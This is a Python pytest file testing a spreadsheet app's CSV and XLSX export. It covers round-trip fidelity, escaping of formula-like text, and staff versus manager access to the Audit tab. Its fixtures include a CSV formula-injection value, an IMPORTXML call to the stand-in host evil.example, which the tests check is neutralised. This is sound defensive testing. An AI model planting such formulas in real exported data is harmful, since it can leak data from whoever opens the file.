"""Exports on both backends: the tabs as people see them, text kept as text, and an exact way back."""

from __future__ import annotations

import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from processes import export
from processes.errors import PermissionDenied, ProcessError
from processes.export_files import tidy
from processes.permissions import Actor
from sheets.tabs import ALL_TABS, ORDERS

STAFF, MANAGER = Actor("sam", "staff"), Actor("mia", "manager")
TRICKY = ['=IMPORTXML("http://evil.example","//a")', "+1 555", "-", "@home", "'quoted", "-5", "007"]
NOW = datetime(2026, 11, 25, 9, 30)


def add_tricky_orders(record) -> None:
    """Orders whose text a spreadsheet could take for formulas, a negative total, and a column people added.

    The app refuses a negative total, so the first one is typed into the sheet by a person.
    """
    with record.workbook.transaction(ORDERS, user="lin") as tx:
        for number, text in enumerate(TRICKY):
            tx.insert(
                ORDERS,
                {
                    "customer_name": text,
                    "ship_address": f"{text} street",
                    "external_ref": text,
                    "total": 12.5 * number,
                },
            )
    record.person.set_cell("Orders", 2, "total", -5)
    record.person.add_column("Orders", "Note", values=["=1+1", 7, "", "@team"])


def orders_as_people_see_them(record):
    return tidy(record.workbook.backend.raw_rows("Orders"))


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_tab_survives_export_and_reading_back_exactly(record, file_format):
    add_tricky_orders(record)
    made = export.export(record.workbook, by=STAFF, tab="Orders", file_format=file_format, now=lambda: NOW)
    assert made.filename == f"flowsheet-orders-2026-11-25.{file_format}"
    assert (made.tabs, made.rows, made.left_out) == (("Orders",), len(TRICKY) + 1, ())

    original = orders_as_people_see_them(record)
    back = export.read_export(made.content, file_format, tab="Orders")["Orders"]
    assert back == original
    header = back[0]
    names = [row[header.index("customer_name")] for row in back[1:]]
    assert names == TRICKY  # text stays text, "-5" and "007" included
    totals = [row[header.index("total")] for row in back[1:]]
    assert totals[0] == -5 and all(isinstance(total, (int, float)) for total in totals)
    notes = [row[header.index("Note")] if len(row) > header.index("Note") else "" for row in back[1:]]
    assert notes[:4] == ["=1+1", 7, "", "@team"]  # the column people added is in the file


def test_in_csv_only_text_that_starts_like_a_formula_gets_an_apostrophe(record):
    add_tricky_orders(record)
    text = export.export(record.workbook, by=STAFF, tab="orders", file_format="csv").content.decode(
        "utf-8-sig"
    )
    assert '\'=IMPORTXML(""http://evil.example"",""//a"")' in text
    for protected in ("'+1 555", "'-,", "'@home", "''quoted", "'-5,", "'=1+1"):
        assert protected in text
    assert ",-5," in text  # a negative number in a number column is a number, not protected
    assert ",007," in text  # text that is not formula-like is left alone


def test_in_xlsx_formula_like_text_is_a_string_cell(record):
    add_tricky_orders(record)
    made = export.export(record.workbook, by=STAFF, tab="Orders", file_format="xlsx")
    sheet = load_workbook(io.BytesIO(made.content))["Orders"]
    header = [cell.value for cell in sheet[1]]
    column = header.index("customer_name") + 1
    first = sheet.cell(row=2, column=column)
    assert (first.value, first.data_type, first.quotePrefix) == (TRICKY[0], "s", True)
    assert all(sheet.cell(row=row, column=column).data_type == "s" for row in range(2, len(TRICKY) + 2))
    total = sheet.cell(row=2, column=header.index("total") + 1)
    assert (total.value, total.data_type) == (-5, "n")


def test_the_whole_workbook_is_one_sheet_per_tab_read_in_one_request(record):
    add_tricky_orders(record)
    if record.fake:
        record.fake.reset_counts()
    made = export.export(record.workbook, by=MANAGER, file_format="xlsx", now=lambda: NOW)
    assert record.requests("values.batchGet") == (1 if record.fake else 0)  # one read for every tab
    assert made.filename == "flowsheet-2026-11-25.xlsx"
    assert made.tabs == tuple(tab.name for tab in ALL_TABS) and made.left_out == ()
    back = export.read_export(made.content, "xlsx")
    assert list(back) == [tab.name for tab in ALL_TABS]
    for name in ("Orders", "Settings", "Audit"):
        assert back[name] == tidy(record.workbook.backend.raw_rows(name))


def test_staff_export_settings_but_not_the_audit(record):
    made = export.export(record.workbook, by=STAFF, file_format="xlsx")
    assert "Audit" not in made.tabs and "Settings" in made.tabs and "Orders" in made.tabs
    assert made.left_out == ("Audit (only a manager or an admin may read it)",)
    with pytest.raises(PermissionDenied, match="Only a manager or an admin may read Audit"):
        export.export(record.workbook, by=STAFF, tab="Audit", file_format="csv")
    assert export.export(record.workbook, by=STAFF, tab="Settings", file_format="csv").tabs == ("Settings",)
    assert export.export(record.workbook, by=MANAGER, tab="Audit", file_format="csv").tabs == ("Audit",)


@pytest.mark.parametrize(
    ("tab", "file_format", "says"),
    [
        ("", "csv", "A CSV file holds one tab"),
        ("Nope", "csv", "There is no tab called 'Nope'"),
        ("Orders", "pdf", "Export as xlsx or csv"),
    ],
)
def test_an_export_that_cannot_be_made_says_why(record, tab, file_format, says):
    with pytest.raises(ProcessError, match=says):
        export.export(record.workbook, by=MANAGER, tab=tab, file_format=file_format)


def test_a_tab_missing_from_the_workbook_is_refused_alone_and_left_out_of_the_whole(record):
    record.person.delete_sheet("Suggestions")
    with pytest.raises(ProcessError, match="The workbook has no Suggestions tab; run `python app.py init`"):
        export.export(record.workbook, by=MANAGER, tab="Suggestions", file_format="csv")
    made = export.export(record.workbook, by=MANAGER)
    assert "Suggestions" not in made.tabs
    assert made.left_out == ("Suggestions (the workbook has no such tab)",)
